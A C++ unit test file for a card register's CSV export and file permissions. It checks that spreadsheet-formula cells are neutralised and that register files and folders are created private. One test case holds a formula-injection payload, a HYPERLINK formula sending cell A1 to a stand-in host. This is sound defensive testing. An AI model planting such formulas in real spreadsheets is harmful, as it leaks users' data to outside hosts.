// The register's data kept from other accounts and from spreadsheets: a CSV cell that would
// run as a formula stays text and reads back exactly; the register's folder and files are
// private, and an existing register other accounts can read is named with its fix.
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <QFile>
#include <QTemporaryDir>
#include <QTextStream>

#include "station/register/CardRegister.h"
#include "station/register/SpreadsheetCell.h"

using namespace station;

namespace {

// The station cell of a one-row export, as the file holds it.
QString ExportedStation(const QString& station) {
    RegisterEntry entry;
    entry.id = 1;
    entry.station = station;
    QString text;
    QTextStream out(&text);
    WriteRegisterCsv(out, {entry});
    out.flush();
    // The twelve cells before the station hold no separator; the six after it are empty.
    QString row = text.mid(text.indexOf(QStringLiteral("\r\n")) + 2);
    int start = 0;
    for (int column = 0; column < 12; ++column) start = row.indexOf(QLatin1Char(','), start) + 1;
    const QString after = QStringLiteral(",,,,,,\r\n");
    EXPECT_TRUE(row.endsWith(after)) << row.toStdString();
    return row.mid(start, row.size() - start - after.size());
}

QString Unquoted(const QString& field) {
    if (!field.startsWith(QLatin1Char('"'))) return field;
    return field.mid(1, field.size() - 2).replace(QLatin1String("\"\""), QLatin1String("\""));
}

TEST(RegisterCsv, FormulaCellsStayTextAndReadBackExactly) {
    struct Case {
        const char* cell;
        const char* written;
    };
    const Case cases[] = {
        {"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
         "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\""},
        {"+1", "\"'+1\""},
        {"-2+3", "\"'-2+3\""},
        {"@SUM(A1)", "\"'@SUM(A1)\""},
        {"\tdesk", "\"'\tdesk\""},
        {"\rdesk", "\"'\rdesk\""},
        // An apostrophe of its own is doubled, so that reading back removes exactly one.
        {"'quoted", "\"''quoted\""},
        {"''", "\"'''\""},
        // Only the first character counts; plain cells stay as they were.
        {"desk=1", "desk=1"},
        {" =1", " =1"},
        {"desk-2", "desk-2"},
        {"", ""},
    };
    for (const Case& c : cases) {
        const QString cell = QString::fromUtf8(c.cell);
        const QString written = ExportedStation(cell);
        EXPECT_EQ(written.toStdString(), c.written) << c.cell;
        EXPECT_EQ(FromSpreadsheetText(Unquoted(written)), cell) << c.cell;
    }
}

mode_t ModeOf(const QString& path) {
    struct stat info {};
    EXPECT_EQ(::stat(QFile::encodeName(path).constData(), &info), 0) << path.toStdString();
    return info.st_mode & 07777;
}

// Sets the process's umask for a test and restores it.
class Umask {
  public:
    explicit Umask(mode_t mask) : m_old(::umask(mask)) {}
    ~Umask() { ::umask(m_old); }
    Umask(const Umask&) = delete;
    Umask& operator=(const Umask&) = delete;

  private:
    mode_t m_old;
};

RegisterSettings SqliteAt(const QString& file) {
    RegisterSettings settings;
    settings.file = file;
    return settings;
}

TEST(RegisterFiles, NewRegisterAndItsFoldersArePrivate) {
    const Umask umask(022);
    QTemporaryDir dir;
    ASSERT_EQ(::chmod(QFile::encodeName(dir.path()).constData(), 0755), 0);
    const QString folder = dir.filePath(QStringLiteral("office/badges"));
    const QString file = folder + QStringLiteral("/register.sqlite");

    CCardRegister cardRegister(SqliteAt(file), QStringLiteral("test"));
    ASSERT_TRUE(cardRegister.Open()) << cardRegister.LastError().toStdString();
    // The write-ahead log and its index exist while the register is open.
    for (const QString& path : {file, file + "-wal", file + "-shm"}) {
        EXPECT_EQ(ModeOf(path), 0600u) << path.toStdString();
    }
    EXPECT_EQ(ModeOf(folder), 0700u);
    EXPECT_EQ(ModeOf(dir.filePath(QStringLiteral("office"))), 0700u);
    // A folder that was there keeps its mode.
    EXPECT_EQ(ModeOf(dir.path()), 0755u);
    EXPECT_TRUE(cardRegister.LastWarning().isEmpty()) << cardRegister.LastWarning().toStdString();
}

TEST(RegisterFiles, ExposedRegisterIsNamedWithItsFixAndLeftAsItIs) {
    QTemporaryDir dir;
    const QString folder = dir.filePath(QStringLiteral("shared folder"));
    const QString file = folder + QStringLiteral("/register.sqlite");
    {
        CCardRegister made(SqliteAt(file), QStringLiteral("test"));
        ASSERT_TRUE(made.Open()) << made.LastError().toStdString();
    }
    const QByteArray fileName = QFile::encodeName(file);
    ASSERT_EQ(::chmod(fileName.constData(), 0644), 0);
    ASSERT_EQ(::chmod(QFile::encodeName(folder).constData(), 0755), 0);

    {
        CCardRegister exposed(SqliteAt(file), QStringLiteral("test"));
        ASSERT_TRUE(exposed.Open()) << exposed.LastError().toStdString();
        const std::string warning = exposed.LastWarning().toStdString();
        EXPECT_NE(warning.find("chmod 600 '" + file.toStdString() + "'"), std::string::npos)
            << warning;
        EXPECT_NE(warning.find("chmod 700 '" + folder.toStdString() + "'"), std::string::npos)
            << warning;
        EXPECT_NE(warning.find("0644"), std::string::npos) << warning;
        // A site may share the file on purpose: the register says so, it does not change it.
        EXPECT_EQ(ModeOf(file), 0644u);
        EXPECT_EQ(ModeOf(folder), 0755u);
    }

    // The file alone closed: only the folder is still named.
    ASSERT_EQ(::chmod(fileName.constData(), 0600), 0);
    {
        CCardRegister halfFixed(SqliteAt(file), QStringLiteral("test"));
        ASSERT_TRUE(halfFixed.Open());
        const std::string warning = halfFixed.LastWarning().toStdString();
        EXPECT_EQ(warning.find("chmod 600"), std::string::npos) << warning;
        EXPECT_NE(warning.find("chmod 700"), std::string::npos) << warning;
    }
    ASSERT_EQ(::chmod(QFile::encodeName(folder).constData(), 0700), 0);
    CCardRegister fixed(SqliteAt(file), QStringLiteral("test"));
    ASSERT_TRUE(fixed.Open());
    EXPECT_TRUE(fixed.LastWarning().isEmpty()) << fixed.LastWarning().toStdString();
}

}  // namespace
